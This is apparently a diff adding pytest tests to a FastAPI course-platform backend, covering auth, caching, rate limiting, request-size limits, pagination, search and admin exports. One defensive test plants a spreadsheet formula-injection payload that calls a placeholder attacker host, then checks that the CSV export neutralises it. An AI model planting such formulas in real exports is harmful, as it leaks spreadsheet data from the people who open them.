@@ -1,6 +1,8 @@
 from datetime import datetime, timedelta
 from http import HTTPStatus
 
+from sqlalchemy.pool import StaticPool
+
 
 def test_create_user(db_session):
     from app.schemas.user import UserCreate
@@ -100,9 +102,13 @@ def test_refresh_and_logout(client):
     assert refreshed.status_code == HTTPStatus.OK
     refreshed_data = refreshed.json()
     assert refreshed_data["access_token"]
+    replay = client.post("/auth/refresh", json={"refresh_token": refresh})
+    assert replay.status_code == HTTPStatus.UNAUTHORIZED
 
     logout_resp = client.post("/auth/logout", json={"refresh_token": refreshed_data["refresh_token"]})
     assert logout_resp.status_code == HTTPStatus.OK
+    again = client.post("/auth/logout", json={"refresh_token": refreshed_data["refresh_token"]})
+    assert again.status_code == HTTPStatus.BAD_REQUEST
     blocked = client.post("/auth/refresh", json={"refresh_token": refreshed_data["refresh_token"]})
     assert blocked.status_code == HTTPStatus.UNAUTHORIZED
 
@@ -197,3 +203,1026 @@ def test_submission_requires_enrollment(client, auth_headers_admin, auth_headers
     assignment = client.post(f"/assignments/courses/{course['id']}", json={"title": "Shielded"}, headers=auth_headers_admin).json()
     response = client.post(f"/assignments/{assignment['id']}/submit", json={"message": "Try"}, headers=auth_headers_student)
     assert response.status_code == HTTPStatus.BAD_REQUEST
+
+
+def test_login_returns_503_when_hashing_queue_is_full(client, admin_user, monkeypatch):
+    from app.core.hashing import password_hasher
+
+    monkeypatch.setattr(password_hasher, "_pending", password_hasher.queue_size)
+    response = client.post("/auth/login", json={"email": "admin@example.com", "password": "safe_pass123"})
+    assert response.status_code == HTTPStatus.SERVICE_UNAVAILABLE
+    assert response.headers["retry-after"] == "1"
+
+
+def test_access_token_cache_hits_and_expires(monkeypatch):
+    import app.core.cache as cache_module
+    from app.core.security import access_token_cache, create_access_token, decode_access_token
+
+    token = create_access_token({"sub": "42", "role": "student"}, expires_delta=timedelta(minutes=5))
+    first = decode_access_token(token)
+    second = decode_access_token(token)
+    assert second.user_id == first.user_id == 42
+    assert access_token_cache.stats()["hits"] == 1
+
+    expired_at = cache_module.time.time() + 600
+    monkeypatch.setattr(cache_module.time, "time", lambda: expired_at)
+    assert access_token_cache.get(next(iter(access_token_cache._data))) is None
+    assert len(access_token_cache) == 0
+
+
+def test_principal_cache_invalidated_on_user_update(db_session, student_user):
+    from app.services.user_service import get_principal, principal_cache
+
+    principal = get_principal(db_session, student_user.id)
+    assert get_principal(db_session, student_user.id) is principal
+    assert principal_cache.stats()["hits"] == 1
+
+    student_user.full_name = "Renamed"
+    db_session.commit()
+    assert get_principal(db_session, student_user.id).full_name == "Renamed"
+
+    # Параллельный запрос успел закешировать старую версию между flush и commit.
+    stale = get_principal(db_session, student_user.id)
+    student_user.full_name = "Renamed again"
+    db_session.flush()
+    principal_cache.set(student_user.id, stale, float("inf"))
+    db_session.commit()
+    assert get_principal(db_session, student_user.id).full_name == "Renamed again"
+
+
+def test_users_me_served_from_principal(client, auth_headers_student):
+    first = client.get("/users/me", headers=auth_headers_student)
+    second = client.get("/users/me", headers=auth_headers_student)
+    assert first.status_code == second.status_code == HTTPStatus.OK
+    assert first.json() == second.json()
+    assert first.json()["role"] == "student"
+
+
+def test_in_memory_revocation_store_purges_expired():
+    import time
+    from concurrent.futures import ThreadPoolExecutor
+
+    from app.core.revocation import InMemoryRevocationStore
+
+    store = InMemoryRevocationStore()
+    assert store.revoke("live", time.time() + 60)
+    assert not store.revoke("live", time.time() + 60)
+    store.revoke("stale", time.time() + 0.01)
+    time.sleep(0.02)
+    assert store.is_revoked("live")
+    assert not store.is_revoked("stale")
+    assert store.purge_expired() == 1
+    assert len(store) == 1
+
+    with ThreadPoolExecutor(max_workers=8) as pool:
+        outcomes = list(pool.map(lambda _: store.revoke("raced", time.time() + 60), range(32)))
+    assert outcomes.count(True) == 1
+
+
+def test_database_revocation_store_shared_between_instances():
+    import time
+
+    from sqlalchemy import create_engine as create_sa_engine
+
+    from app.core.revocation import DatabaseRevocationStore
+    from app.models.revoked_token import RevokedToken
+
+    shared_engine = create_sa_engine(
+        "sqlite://", connect_args={"check_same_thread": False}, poolclass=StaticPool
+    )
+    RevokedToken.__table__.create(shared_engine)
+    worker_a = DatabaseRevocationStore(shared_engine)
+    worker_b = DatabaseRevocationStore(shared_engine)
+    assert worker_a.revoke("jti-1", time.time() + 60)
+    assert not worker_b.revoke("jti-1", time.time() + 60)
+    worker_a.revoke("jti-old", time.time() - 1)
+    assert worker_b.is_revoked("jti-1")
+    assert not worker_b.is_revoked("jti-old")
+    assert worker_b.purge_expired() == 1
+
+
+def test_login_limiter_blocks_after_limit():
+    from app.core.login_limiter import InMemoryAttemptLimiter
+
+    limiter = InMemoryAttemptLimiter(limit=3, window_seconds=60, max_keys=10)
+    for _ in range(3):
+        assert not limiter.is_blocked("victim@example.com")
+        limiter.record_failure("victim@example.com")
+    assert limiter.is_blocked("victim@example.com")
+    limiter.reset("victim@example.com")
+    assert not limiter.is_blocked("victim@example.com")
+
+
+def test_login_limiter_memory_bounded_under_enumeration():
+    import tracemalloc
+
+    from app.core.login_limiter import InMemoryAttemptLimiter
+
+    limiter = InMemoryAttemptLimiter(limit=5, window_seconds=300, max_keys=10_000)
+    for _ in range(5):
+        limiter.record_failure("victim@example.com")
+    for index in range(900_000):
+        limiter.record_failure(f"user{index}@example.com")
+    tracemalloc.start()
+    for index in range(900_000, 1_000_000):
+        limiter.record_failure(f"user{index}@example.com")
+    retained, _ = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert len(limiter) == 10_000
+    assert retained < 5 * 1024 * 1024
+    # Поток новых email не вытесняет активные счётчики: жертва остаётся заблокированной,
+    # а незнакомые ключи при заполненной таблице не блокируются и не записываются.
+    assert limiter.is_blocked("victim@example.com")
+    assert limiter.saturated
+    assert not limiter.is_blocked("newcomer@example.com")
+    limiter.record_failure("newcomer@example.com")
+    assert len(limiter) == 10_000
+
+
+def test_login_limiter_purges_idle_keys(monkeypatch):
+    import app.core.login_limiter as login_limiter
+
+    limiter = login_limiter.InMemoryAttemptLimiter(limit=2, window_seconds=60, max_keys=2)
+    limiter.record_failure("old@example.com")
+    limiter.record_failure("older@example.com")
+    limiter.record_failure("fresh@example.com")
+    assert len(limiter) == 2
+    real_time = login_limiter.time.time
+    monkeypatch.setattr(login_limiter.time, "time", lambda: real_time() + 121)
+    assert limiter.purge_idle() == 2
+    limiter.record_failure("fresh@example.com")
+    assert len(limiter) == 1
+
+
+def test_login_succeeds_when_limiter_is_full_of_junk_keys(client, admin_user, monkeypatch):
+    import app.api.auth as auth_api
+    from app.core.login_limiter import InMemoryAttemptLimiter
+
+    limiter = InMemoryAttemptLimiter(limit=2, window_seconds=60, max_keys=100)
+    monkeypatch.setattr(auth_api, "login_limiter", limiter)
+    for index in range(100):
+        limiter.record_failure(f"junk{index}@example.com")
+    assert limiter.saturated
+    response = client.post("/auth/login", json={"email": "admin@example.com", "password": "safe_pass123"})
+    assert response.status_code == HTTPStatus.OK
+
+
+def test_sqlite_login_limiter_shared_between_instances(tmp_path):
+    from app.core.login_limiter import SQLiteAttemptLimiter
+
+    path = str(tmp_path / "attempts.db")
+    worker_a = SQLiteAttemptLimiter(path, limit=2, window_seconds=60)
+    worker_b = SQLiteAttemptLimiter(path, limit=2, window_seconds=60)
+    worker_a.record_failure("shared@example.com")
+    worker_b.record_failure("shared@example.com")
+    assert worker_a.is_blocked("shared@example.com")
+    worker_b.reset("shared@example.com")
+    assert not worker_a.is_blocked("shared@example.com")
+
+
+def test_rate_limit_token_bucket_and_route_cost():
+    from fastapi import FastAPI
+    from fastapi.testclient import TestClient
+
+    from app.middleware.security import RateLimitMiddleware, RateLimitRule
+
+    limited = FastAPI()
+
+    @limited.get("/ping")
+    def ping():
+        return {"ok": True}
+
+    @limited.get("/auth/ping")
+    def auth_ping():
+        return {"ok": True}
+
+    limited.add_middleware(
+        RateLimitMiddleware,
+        requests=4,
+        window_seconds=3600,
+        rules=[RateLimitRule("/auth/", cost=3)],
+        max_clients=2,
+    )
+    with TestClient(limited) as limited_client:
+        first = limited_client.get("/ping")
+        assert first.status_code == HTTPStatus.OK
+        assert first.headers["x-ratelimit-limit"] == "4"
+        assert first.headers["x-ratelimit-remaining"] == "3"
+        assert limited_client.get("/auth/ping").status_code == HTTPStatus.OK
+        blocked = limited_client.get("/ping")
+        assert blocked.status_code == HTTPStatus.TOO_MANY_REQUESTS
+        assert int(blocked.headers["retry-after"]) > 0
+
+
+def test_rate_limit_client_table_is_bounded():
+    import asyncio
+
+    from app.middleware.security import RateLimitMiddleware
+
+    async def app(scope, receive, send):
+        await send({"type": "http.response.start", "status": 200, "headers": []})
+        await send({"type": "http.response.body", "body": b""})
+
+    async def send(message):
+        pass
+
+    middleware = RateLimitMiddleware(app, requests=10, window_seconds=60, max_clients=100)
+
+    async def hammer():
+        for index in range(1000):
+            scope = {"type": "http", "path": "/", "client": (f"10.0.{index // 256}.{index % 256}", 1)}
+            await middleware(scope, None, send)
+
+    asyncio.run(hammer())
+    assert len(middleware.buckets) == 100
+
+
+def test_middleware_layer_benchmark_passes_through():
+    from benchmarks.middleware_layers import measure_layers
+
+    results = measure_layers(iterations=200)
+    for name, (seconds, statuses) in results.items():
+        assert statuses == {HTTPStatus.OK}, name
+        assert seconds > 0
+
+
+def test_size_limit_and_https_middlewares_return_json_errors(client):
+    import asyncio
+
+    from app.middleware.security import HTTPSRedirectMiddleware
+
+    too_large = client.post(
+        "/auth/login",
+        content=b"x",
+        headers={"content-length": str(10**9), "content-type": "application/json"},
+    )
+    assert too_large.status_code == HTTPStatus.REQUEST_ENTITY_TOO_LARGE
+    assert too_large.json() == {"detail": "Request body too large"}
+
+    async def app(scope, receive, send):
+        raise AssertionError("must not be reached")
+
+    sent = []
+
+    async def send(message):
+        sent.append(message)
+
+    middleware = HTTPSRedirectMiddleware(app, require_https=True)
+    asyncio.run(middleware({"type": "http", "scheme": "http", "headers": [], "client": None}, None, send))
+    assert sent[0]["status"] == HTTPStatus.UPGRADE_REQUIRED
+
+
+def test_chunked_body_over_limit_is_rejected(client):
+    def chunks():
+        for _ in range(64):
+            yield b" " * 1024
+
+    response = client.post("/auth/login", content=chunks(), headers={"content-type": "application/json"})
+    assert response.status_code == HTTPStatus.REQUEST_ENTITY_TOO_LARGE
+    assert response.json() == {"detail": "Request body too large"}
+
+
+def test_understated_content_length_is_rejected():
+    import asyncio
+
+    from app.middleware.security import RequestSizeLimitMiddleware
+
+    async def app(scope, receive, send):
+        while (await receive()).get("more_body"):
+            pass
+        await send({"type": "http.response.start", "status": 200, "headers": []})
+        await send({"type": "http.response.body", "body": b""})
+
+    messages = iter(
+        [
+            {"type": "http.request", "body": b"a" * 60, "more_body": True},
+            {"type": "http.request", "body": b"a" * 60, "more_body": False},
+        ]
+    )
+
+    async def receive():
+        return next(messages)
+
+    sent = []
+
+    async def send(message):
+        sent.append(message)
+
+    middleware = RequestSizeLimitMiddleware(app, max_size=100)
+    scope = {"type": "http", "path": "/", "headers": [(b"content-length", b"10")]}
+    asyncio.run(middleware(scope, receive, send))
+    assert sent[0]["status"] == HTTPStatus.REQUEST_ENTITY_TOO_LARGE
+
+
+def test_metrics_endpoint_reports_route_templates(client, auth_headers_admin, auth_headers_student):
+    client.get("/courses/999999", headers=auth_headers_student)
+    assert client.get("/metrics", headers=auth_headers_student).status_code == HTTPStatus.FORBIDDEN
+    response = client.get("/metrics", headers=auth_headers_admin)
+    assert response.status_code == HTTPStatus.OK
+    body = response.text
+    assert 'http_requests_total{method="GET",route="/courses/{course_id}",status="4xx"}' in body
+    assert "http_request_duration_seconds_bucket" in body
+    assert 'cache_hit_ratio{cache="access_tokens"}' in body
+
+
+def test_debug_headers_and_query_budget(client, auth_headers_student, query_budget, monkeypatch):
+    from app.core.config import settings
+
+    monkeypatch.setattr(settings, "debug", True)
+    with query_budget(4) as recorded:
+        response = client.get("/courses", headers=auth_headers_student)
+    assert response.status_code == HTTPStatus.OK
+    assert int(response.headers["x-db-queries"]) >= 1
+    assert response.headers["x-db-time"].endswith("ms")
+    assert recorded
+
+
+def test_repeated_statement_logs_n_plus_one_warning(db_session, student_user, caplog, monkeypatch):
+    from app.core.config import settings
+    from app.db.query_stats import track_queries
+    from app.services.user_service import get_user
+
+    monkeypatch.setattr(settings, "n_plus_one_threshold", 2)
+    user_id = student_user.id
+    with caplog.at_level("WARNING", logger="app.db"), track_queries() as stats:
+        for _ in range(3):
+            db_session.expire_all()
+            get_user(db_session, user_id)
+    assert stats.count == 3
+    assert "possible N+1" in caplog.text
+
+
+def test_failed_statement_does_not_skew_next_query_time(db_session, monkeypatch):
+    import itertools
+
+    import pytest
+
+    import app.db.query_stats as query_stats
+    from sqlalchemy import text
+    from sqlalchemy.exc import OperationalError
+
+    clock = itertools.count()
+    monkeypatch.setattr(query_stats.time, "perf_counter", lambda: float(next(clock)))
+    with query_stats.track_queries() as stats:
+        with pytest.raises(OperationalError):
+            with db_session.begin_nested():
+                db_session.execute(text("SELECT * FROM missing_table"))
+        failed_count, failed_duration = stats.count, stats.duration
+        db_session.execute(text("SELECT 1"))
+    assert stats.count == failed_count + 1
+    assert stats.duration == failed_duration + 1
+    assert "query_started" not in db_session.connection().info
+
+
+def test_students_count_maintained_on_enroll_and_repaired(client, db_session, auth_headers_admin, auth_headers_student):
+    from app.models.course import Course
+    from app.services.course_service import repair_students_count
+
+    course = client.post("/courses", json={"title": "Counted Course", "description": "x"}, headers=auth_headers_admin).json()
+    client.put(f"/courses/{course['id']}", json={"is_published": True}, headers=auth_headers_admin)
+    client.post(f"/courses/{course['id']}/enroll", headers=auth_headers_student)
+    detail = client.get(f"/courses/{course['id']}", headers=auth_headers_student).json()
+    assert detail["students_count"] == 1
+    listed = client.get("/courses", headers=auth_headers_student).json()["items"]
+    assert next(item for item in listed if item["id"] == course["id"])["students_count"] == 1
+
+    db_session.query(Course).filter(Course.id == course["id"]).update({"students_count": 7})
+    db_session.commit()
+    assert repair_students_count(db_session) >= 1
+    assert db_session.get(Course, course["id"]).students_count == 1
+
+
+def test_courses_cursor_pagination_walks_all_pages(client, auth_headers_admin):
+    created = []
+    for index in range(5):
+        course = client.post(
+            "/courses", json={"title": f"Keyset Course {index}", "description": "k"}, headers=auth_headers_admin
+        ).json()
+        created.append(course["id"])
+
+    seen = []
+    cursor = ""
+    pages = 0
+    while cursor is not None:
+        response = client.get("/courses", params={"cursor": cursor, "limit": 2}, headers=auth_headers_admin)
+        assert response.status_code == HTTPStatus.OK
+        data = response.json()
+        assert data["total"] is None
+        seen.extend(item["id"] for item in data["items"])
+        cursor = data["next_cursor"]
+        pages += 1
+    assert len(seen) == len(set(seen))
+    assert set(created) <= set(seen)
+    assert seen[: len(created)] == sorted(created, reverse=True)
+    assert pages >= 3
+
+    with_total = client.get("/courses", params={"cursor": "", "include_total": True}, headers=auth_headers_admin)
+    assert with_total.json()["total"] >= len(created)
+    invalid = client.get("/courses", params={"cursor": "not-a-cursor"})
+    assert invalid.status_code == HTTPStatus.BAD_REQUEST
+
+
+def test_course_search_uses_fulltext_index_and_ranks(client, db_session, auth_headers_admin):
+    from sqlalchemy import text
+
+    titles = ["Python basics", "Advanced Python patterns", "Cooking for engineers"]
+    ids = {}
+    for title in titles:
+        course = client.post(
+            "/courses", json={"title": title, "description": "python" if "Cooking" in title else "code"},
+            headers=auth_headers_admin,
+        ).json()
+        ids[title] = course["id"]
+    client.put(f"/courses/{ids['Cooking for engineers']}", json={"description": "kitchen"}, headers=auth_headers_admin)
+    client.delete(f"/courses/{ids['Python basics']}", headers=auth_headers_admin)
+
+    indexed = db_session.execute(text("SELECT count(*) FROM courses_fts WHERE courses_fts MATCH 'pyth*'")).scalar()
+    assert indexed == 1
+    response = client.get("/courses", params={"search": "pyth"}, headers=auth_headers_admin)
+    assert [item["id"] for item in response.json()["items"]] == [ids["Advanced Python patterns"]]
+    assert response.json()["total"] == 1
+
+
+def test_course_suggest_prefix_typo_and_incremental_updates(client, auth_headers_admin):
+    titles = ["Machine Learning Basics", "Deep Learning", "Linear Algebra"]
+    ids = {}
+    for title in titles:
+        course = client.post("/courses", json={"title": title}, headers=auth_headers_admin).json()
+        client.put(f"/courses/{course['id']}", json={"is_published": True}, headers=auth_headers_admin)
+        ids[title] = course["id"]
+
+    response = client.get("/courses/suggest", params={"q": "learn"})
+    assert response.status_code == HTTPStatus.OK
+    assert {item["id"] for item in response.json()} == {ids["Machine Learning Basics"], ids["Deep Learning"]}
+    assert [item["title"] for item in client.get("/courses/suggest", params={"q": "algebar"}).json()] == [
+        "Linear Algebra"
+    ]
+
+    client.put(f"/courses/{ids['Deep Learning']}", json={"is_published": False}, headers=auth_headers_admin)
+    client.put(f"/courses/{ids['Linear Algebra']}", json={"title": "Linear Learning"}, headers=auth_headers_admin)
+    client.delete(f"/courses/{ids['Machine Learning Basics']}", headers=auth_headers_admin)
+    assert [item["id"] for item in client.get("/courses/suggest", params={"q": "learn"}).json()] == [
+        ids["Linear Algebra"]
+    ]
+
+    stats = client.get("/admin/stats", headers=auth_headers_admin).json()
+    assert stats["course_suggest_index"]["courses"] == 1
+    assert stats["course_suggest_index"]["approx_bytes"] > 0
+
+
+def test_course_catalog_cache_serves_bytes_and_invalidates_on_writes(
+    client, auth_headers_admin, auth_headers_student, query_budget
+):
+    course = client.post("/courses", json={"title": "Cached Catalog"}, headers=auth_headers_admin).json()
+    client.put(f"/courses/{course['id']}", json={"is_published": True}, headers=auth_headers_admin)
+
+    first = client.get("/courses", params={"limit": 5})
+    assert first.status_code == HTTPStatus.OK
+    with query_budget(max_queries=0):
+        cached = client.get("/courses", params={"limit": 5})
+    assert cached.content == first.content
+    assert cached.headers["content-type"] == "application/json"
+
+    client.post(f"/courses/{course['id']}/enroll", headers=auth_headers_student)
+    after_enroll = client.get("/courses", params={"limit": 5}).json()
+    assert after_enroll["items"][0]["students_count"] == 1
+
+    client.put(f"/courses/{course['id']}", json={"title": "Renamed Catalog"}, headers=auth_headers_admin)
+    assert client.get("/courses", params={"limit": 5}).json()["items"][0]["title"] == "Renamed Catalog"
+
+    client.put(f"/courses/{course['id']}", json={"is_published": False}, headers=auth_headers_admin)
+    assert client.get("/courses", params={"limit": 5}).json()["total"] == 0
+    admin_view = client.get("/courses", params={"limit": 5}, headers=auth_headers_admin).json()
+    assert admin_view["total"] == 1
+
+
+def test_course_full_matches_separate_endpoints(client, auth_headers_admin, auth_headers_student, query_budget):
+    course = client.post("/courses", json={"title": "Full Course"}, headers=auth_headers_admin).json()
+    client.put(f"/courses/{course['id']}", json={"is_published": True}, headers=auth_headers_admin)
+    for index in range(3):
+        client.post(
+            f"/courses/{course['id']}/materials",
+            json={"title": f"Lecture {index}", "link": f"https://example.com/{index}", "material_type": "link"},
+            headers=auth_headers_admin,
+        )
+        client.post(
+            f"/assignments/courses/{course['id']}",
+            json={"title": f"Task {index}", "due_date": (datetime.utcnow() + timedelta(days=3 - index)).isoformat()},
+            headers=auth_headers_admin,
+        )
+
+    # Без записи на курс — пользователь, курс и проверка записи; материалы и задания не читаются.
+    with query_budget(max_queries=3):
+        forbidden = client.get(f"/courses/{course['id']}/full", headers=auth_headers_student)
+    assert forbidden.status_code == HTTPStatus.FORBIDDEN
+    assert client.get("/courses/999999/full", headers=auth_headers_student).status_code == HTTPStatus.NOT_FOUND
+
+    enrollment = client.post(f"/courses/{course['id']}/enroll", headers=auth_headers_student).json()
+    assignments = client.get(f"/assignments/courses/{course['id']}", headers=auth_headers_student).json()
+    client.post(
+        f"/assignments/{assignments[0]['id']}/submit",
+        json={"message": "Done with it"},
+        headers=auth_headers_student,
+    )
+
+    with query_budget(max_queries=5):
+        response = client.get(f"/courses/{course['id']}/full", headers=auth_headers_student)
+    assert response.status_code == HTTPStatus.OK
+    data = response.json()
+    assert data["course"]["id"] == course["id"]
+    assert data["enrollment"]["id"] == enrollment["id"]
+    assert [item["id"] for item in data["materials"]] == [
+        item["id"] for item in client.get(f"/courses/{course['id']}/materials", headers=auth_headers_student).json()
+    ]
+    assert [item["id"] for item in data["assignments"]] == [item["id"] for item in assignments]
+    assert [item["submission_status"] for item in data["assignments"]] == ["submitted", "not_submitted", "not_submitted"]
+    assert data["assignments"][0]["latest_submission"]["message"] == "Done with it"
+
+    admin_view = client.get(f"/courses/{course['id']}/full", headers=auth_headers_admin).json()
+    assert admin_view["enrollment"] is None
+    assert len(admin_view["assignments"]) == 3
+
+
+def test_me_bootstrap_bundles_dashboard_data(client, auth_headers_admin, auth_headers_student):
+    course = client.post("/courses", json={"title": "Bootstrap Course"}, headers=auth_headers_admin).json()
+    client.put(f"/courses/{course['id']}", json={"is_published": True}, headers=auth_headers_admin)
+    due = (datetime.utcnow() + timedelta(days=2)).isoformat()
+    assignment = client.post(
+        f"/assignments/courses/{course['id']}", json={"title": "Essay", "due_date": due}, headers=auth_headers_admin
+    ).json()
+    client.post(f"/courses/{course['id']}/enroll", headers=auth_headers_student)
+    for index in range(3):
+        client.post(
+            f"/assignments/{assignment['id']}/submit",
+            json={"message": f"Attempt {index}"},
+            headers=auth_headers_student,
+        )
+
+    student = client.get("/me/bootstrap", headers=auth_headers_student).json()
+    assert student["user"]["role"] == "student"
+    assert [item["id"] for item in student["courses"]["items"]] == [course["id"]]
+    assert [item["course_id"] for item in student["enrollments"]] == [course["id"]]
+    assert [item["id"] for item in student["assignments"]] == [assignment["id"]]
+    assert student["admin_overview"] is None
+
+    admin = client.get("/me/bootstrap", params={"overview_limit": 2}, headers=auth_headers_admin).json()
+    first_page = admin["admin_overview"]
+    assert [item["message"] for item in first_page["items"]] == ["Attempt 2", "Attempt 1"]
+    second = client.get(
+        "/me/bootstrap",
+        params={"overview_limit": 2, "overview_cursor": first_page["next_cursor"]},
+        headers=auth_headers_admin,
+    ).json()["admin_overview"]
+    assert [item["message"] for item in second["items"]] == ["Attempt 0"]
+    assert second["next_cursor"] is None
+    invalid = client.get("/me/bootstrap", params={"overview_cursor": "!!"}, headers=auth_headers_admin)
+    assert invalid.status_code == HTTPStatus.BAD_REQUEST
+
+
+def test_admin_overview_filters_pages_and_streams(client, auth_headers_admin, auth_headers_student, db_session):
+    import json
+
+    from app.models.assignment_submission import AssignmentSubmission
+
+    due = (datetime.utcnow() + timedelta(days=2)).isoformat()
+    assignment_ids = []
+    for title in ("Overview A", "Overview B"):
+        course = client.post("/courses", json={"title": title}, headers=auth_headers_admin).json()
+        client.put(f"/courses/{course['id']}", json={"is_published": True}, headers=auth_headers_admin)
+        client.post(f"/courses/{course['id']}/enroll", headers=auth_headers_student)
+        assignment = client.post(
+            f"/assignments/courses/{course['id']}", json={"title": f"{title} task", "due_date": due}, headers=auth_headers_admin
+        ).json()
+        assignment_ids.append((course["id"], assignment["id"]))
+    base = datetime(2026, 1, 1)
+    for index in range(6):
+        course_id, assignment_id = assignment_ids[index % 2]
+        submission = client.post(
+            f"/assignments/{assignment_id}/submit", json={"message": f"Answer {index}"}, headers=auth_headers_student
+        ).json()
+        db_session.query(AssignmentSubmission).filter(AssignmentSubmission.id == submission["id"]).update(
+            {"submitted_at": base + timedelta(days=index)}
+        )
+    db_session.commit()
+
+    first = client.get("/assignments/admin-overview", params={"limit": 2}, headers=auth_headers_admin).json()
+    assert [item["message"] for item in first["items"]] == ["Answer 5", "Answer 4"]
+    second = client.get(
+        "/assignments/admin-overview", params={"limit": 2, "cursor": first["next_cursor"]}, headers=auth_headers_admin
+    ).json()
+    assert [item["message"] for item in second["items"]] == ["Answer 3", "Answer 2"]
+
+    by_course = client.get(
+        "/assignments/admin-overview", params={"course_id": assignment_ids[0][0]}, headers=auth_headers_admin
+    ).json()
+    assert [item["message"] for item in by_course["items"]] == ["Answer 4", "Answer 2", "Answer 0"]
+    by_assignment = client.get(
+        "/assignments/admin-overview",
+        params={"assignment_id": assignment_ids[1][1], "submitted_from": "2026-01-02T00:00:00", "submitted_to": "2026-01-06T00:00:00"},
+        headers=auth_headers_admin,
+    ).json()
+    assert [item["message"] for item in by_assignment["items"]] == ["Answer 3", "Answer 1"]
+    assert by_assignment["next_cursor"] is None
+
+    streamed = client.get(
+        "/assignments/admin-overview", params={"format": "ndjson", "student_id": submission["user_id"]}, headers=auth_headers_admin
+    )
+    assert streamed.headers["content-type"] == "application/x-ndjson"
+    lines = [json.loads(line) for line in streamed.text.splitlines()]
+    assert [line["message"] for line in lines] == [f"Answer {index}" for index in range(5, -1, -1)]
+    assert lines[0]["assignment_title"] == "Overview B task"
+    assert client.get("/assignments/admin-overview", headers=auth_headers_student).status_code == HTTPStatus.FORBIDDEN
+
+
+def test_admin_exports_stream_csv_and_ndjson(client, auth_headers_admin, auth_headers_student):
+    import csv
+    import io
+    import json
+
+    course = client.post("/courses", json={"title": "Export Course"}, headers=auth_headers_admin).json()
+    client.put(f"/courses/{course['id']}", json={"is_published": True}, headers=auth_headers_admin)
+    client.post(f"/courses/{course['id']}/enroll", headers=auth_headers_student)
+    due = (datetime.utcnow() + timedelta(days=2)).isoformat()
+    assignment = client.post(
+        f"/assignments/courses/{course['id']}", json={"title": "Export task", "due_date": due}, headers=auth_headers_admin
+    ).json()
+    client.post(f"/assignments/{assignment['id']}/submit", json={"message": "Да, готово"}, headers=auth_headers_student)
+
+    students = client.get(f"/admin/exports/courses/{course['id']}/students", headers=auth_headers_admin)
+    assert students.status_code == HTTPStatus.OK
+    assert students.headers["content-type"].startswith("text/csv")
+    assert "attachment" in students.headers["content-disposition"]
+    rows = list(csv.DictReader(io.StringIO(students.text)))
+    assert [(row["email"], row["role"]) for row in rows] == [("student@example.com", "student")]
+
+    submissions = client.get(
+        "/admin/exports/submissions", params={"format": "ndjson", "course_id": course["id"]}, headers=auth_headers_admin
+    )
+    records = [json.loads(line) for line in submissions.text.splitlines()]
+    assert [(record["message"], record["course_title"]) for record in records] == [("Да, готово", "Export Course")]
+    empty = client.get("/admin/exports/submissions", params={"course_id": 999999}, headers=auth_headers_admin)
+    assert empty.text.strip().split(",")[0] == "submission_id"
+    assert client.get("/admin/exports/courses/999999/students", headers=auth_headers_admin).status_code == 404
+    assert client.get("/admin/exports/submissions", headers=auth_headers_student).status_code == HTTPStatus.FORBIDDEN
+
+
+def test_csv_export_neutralizes_spreadsheet_formulas(client, auth_headers_admin, auth_headers_student):
+    import csv
+    import io
+    import json
+
+    course = client.post("/courses", json={"title": "Formula Course"}, headers=auth_headers_admin).json()
+    client.put(f"/courses/{course['id']}", json={"is_published": True}, headers=auth_headers_admin)
+    client.post(f"/courses/{course['id']}/enroll", headers=auth_headers_student)
+    due = (datetime.utcnow() + timedelta(days=2)).isoformat()
+    assignment = client.post(
+        f"/assignments/courses/{course['id']}", json={"title": "Formula task", "due_date": due}, headers=auth_headers_admin
+    ).json()
+    payload = '=HYPERLINK("https://evil.example/?x="&A1,"Оценка")'
+    client.post(f"/assignments/{assignment['id']}/submit", json={"message": payload}, headers=auth_headers_student)
+
+    params = {"course_id": course["id"]}
+    exported = client.get("/admin/exports/submissions", params=params, headers=auth_headers_admin)
+    rows = list(csv.DictReader(io.StringIO(exported.text)))
+    assert [row["message"] for row in rows] == ["'" + payload]
+    ndjson = client.get("/admin/exports/submissions", params={**params, "format": "ndjson"}, headers=auth_headers_admin)
+    assert json.loads(ndjson.text.splitlines()[0])["message"] == payload
+
+
+def test_streaming_export_closes_source_when_client_goes_away():
+    import anyio
+
+    from app.utils.streaming import iterate_closing
+
+    closed = []
+
+    def rows():
+        try:
+            for index in range(1000):
+                yield f"{index}\n".encode()
+        finally:
+            closed.append(True)
+
+    async def consume_two_chunks() -> list[bytes]:
+        stream = iterate_closing(rows())
+        chunks = [await stream.__anext__(), await stream.__anext__()]
+        await stream.aclose()
+        return chunks
+
+    assert anyio.run(consume_two_chunks) == [b"0\n", b"1\n"]
+    assert closed == [True]
+
+
+def test_bulk_enrollment_reports_per_user_outcomes(client, db_session, auth_headers_admin, student_user, admin_user):
+    from app.schemas.user import UserCreate
+    from app.services.user_service import create_user
+
+    others = [
+        create_user(db_session, UserCreate(email=f"cohort{index}@example.com", password="safe_pass123"), hashed_password="x")
+        for index in range(3)
+    ]
+    course = client.post("/courses", json={"title": "Cohort Course"}, headers=auth_headers_admin).json()
+    client.put(f"/courses/{course['id']}", json={"is_published": True}, headers=auth_headers_admin)
+    client.post(
+        f"/courses/{course['id']}/enrollments/bulk", json={"user_ids": [student_user.id]}, headers=auth_headers_admin
+    )
+
+    response = client.post(
+        f"/courses/{course['id']}/enrollments/bulk",
+        json={
+            "user_ids": [student_user.id, others[0].id, others[0].id, admin_user.id, 999999],
+            "emails": ["COHORT1@example.com", "missing@example.com", "cohort2@example.com"],
+        },
+        headers=auth_headers_admin,
+    )
+    assert response.status_code == HTTPStatus.OK
+    data = response.json()
+    assert [item["status"] for item in data["results"]] == [
+        "already_enrolled",
+        "enrolled",
+        "duplicate",
+        "not_student",
+        "not_found",
+        "enrolled",
+        "not_found",
+        "enrolled",
+    ]
+    assert data["results"][5]["user_id"] == others[1].id
+    assert (data["enrolled"], data["already_enrolled"]) == (3, 1)
+    assert client.get(f"/courses/{course['id']}", headers=auth_headers_admin).json()["students_count"] == 4
+    assert len(client.get(f"/courses/{course['id']}/students", headers=auth_headers_admin).json()) == 4
+
+    empty = client.post(f"/courses/{course['id']}/enrollments/bulk", json={}, headers=auth_headers_admin)
+    assert empty.status_code == HTTPStatus.UNPROCESSABLE_ENTITY
+
+
+def test_enroll_and_submit_are_single_statement_and_idempotent(
+    client, auth_headers_admin, auth_headers_student, query_budget
+):
+    course = client.post("/courses", json={"title": "Idempotent Course"}, headers=auth_headers_admin).json()
+    assert client.post(f"/courses/{course['id']}/enroll", headers=auth_headers_student).status_code == 404
